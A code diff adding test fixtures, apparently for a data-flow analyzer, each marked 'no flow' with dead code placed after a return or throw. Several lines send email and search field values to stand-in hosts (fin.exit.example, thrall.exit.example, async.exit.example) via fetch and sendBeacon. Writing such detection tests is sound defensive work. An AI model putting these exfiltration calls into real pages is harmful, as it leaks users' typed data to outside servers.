@@ -149,3 +149,23 @@ const submit = async () => {
   await fetch('https://async.exit.example/a', { method: 'POST', body: t });
 };
 submit();
+
+//# finally-returns
+// no flow
+// why: the return stands before the request on every way
+(function () {
+  try { document.querySelector('#m').textContent = document.querySelector('input[type=email]').value; return; }
+  catch (e) { return; }
+  fetch('https://fin.exit.example/f', { method: 'POST', body: document.querySelector('input[type=email]').value });
+})();
+
+//# throw-before-all
+// no flow
+// why: for Chinese the function throws, else it returns
+function only() {
+  const v = document.querySelector('input[type=search]').value;
+  if (navigator.language === 'zh-CN') throw new Error('zh');
+  else return v.length;
+  navigator.sendBeacon('https://thrall.exit.example/t', v);
+}
+document.querySelector('#go').onclick = only;
